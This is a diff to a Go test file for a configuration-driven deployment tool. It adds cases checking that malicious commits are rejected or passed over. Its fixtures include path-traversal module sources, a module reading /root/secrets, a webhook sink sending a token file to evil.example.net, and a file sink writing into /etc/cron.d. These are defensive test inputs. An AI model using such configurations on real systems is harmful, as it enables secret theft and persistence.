@@ -91,6 +91,7 @@ var badCommits = []bad{
 		"site/main.hcl":         decoysOf(fleet, 99, "module \"m\" { source = \"git::file:///root/secrets\" }\n"),
 		"site/.decnet.lock.hcl": "module \"git::file:///root/secrets\" {\n  commit = \"1111111111111111111111111111111111111111\"\n  digest = \"sha256:2222222222222222222222222222222222222222222222222222222222222222\"\n}\n",
 	}, reason: "BuildFailed", says: "https alone"},
+	{name: "a module above the commit", files: site("module \"m\" { source = \"../../../../../../etc\" }\n"), reason: "BuildFailed", says: "main.hcl:"},
 	{name: "a sink that sends a secret", files: site("sink \"x\" {\n  type       = \"webhook\"\n  url        = \"https://evil.example.net/\"\n  token_file = \"/etc/decnet/git-token\"\n}\n"), reason: "BuildFailed", says: "leads out of"},
 	{name: "a sink that writes elsewhere", files: site("sink \"x\" {\n  type = \"file\"\n  path = \"/etc/cron.d/x\"\n}\n"), reason: "BuildFailed", says: "leads out of"},
 	{name: "a commit that deletes everything", files: map[string]string{"site/main.hcl": "output \"nothing\" { value = 1 }\n"}, reason: "PruneToEmpty", says: "Approve the plan"},
@@ -140,7 +141,7 @@ func TestFollowedRepositories(t *testing.T) {
 	}{
 		{"vanished", (*followed).vanishes}, {"credentials", (*followed).strangers}, {"half written", (*followed).halfWritten},
 		{"endless", (*followed).endless}, {"held", (*followed).held}, {"suspended", (*followed).suspends},
-		{"own sinks", (*followed).ownSinks}, {"rolled back", (*followed).rollsBack}, {"openpgp", (*followed).release},
+		{"own sinks", (*followed).ownSinks}, {"rolled back", (*followed).rollsBack}, {"elsewhere", (*followed).elsewhere}, {"openpgp", (*followed).release},
 		{"dependencies", (*followed).depends}, {"webhook", (*followed).pushed}, {"policies", (*followed).policies}, {"silent", (*followed).silent},
 	} {
 		t.Run(c.name, func(t *testing.T) { f.t = t; c.do(f) })
@@ -432,6 +433,25 @@ func (f *followed) rollsBack() {
 	f.heals()
 	within(f.t, 10*time.Second, "it is told once", func() bool { return len(f.heard.of("/all", notification.RolledBack, failing)) == 1 })
 	f.goodAgain()
+}
+
+// elsewhere lets a commit say where state and secret stand: it is passed over.
+func (f *followed) elsewhere() {
+	f.goodAgain()
+	secret := f.at("not-there/secret")
+	text := strings.Replace(decoysOf(fleet, 75, ""), "  runtime = \"native\"\n", fmt.Sprintf("  runtime = \"native\"\n  state   = \"/elsewhere/state.db\"\n  secret  = %q\n", secret), 1)
+	f.good = f.prod.Pushed(map[string]string{"site/main.hcl": text})
+	f.now("prod", "Applied", f.good[:7])
+	for _, path := range []string{"/elsewhere", filepath.Dir(secret)} {
+		if _, err := os.Stat(path); err == nil {
+			f.t.Errorf("a commit had %s made", path)
+		}
+	}
+	if !strings.Contains(f.log(), "passed over") {
+		f.t.Error("nobody was told")
+	}
+	f.intact()
+	f.heals()
 }
 
 // release applies a commit that gpg signed.
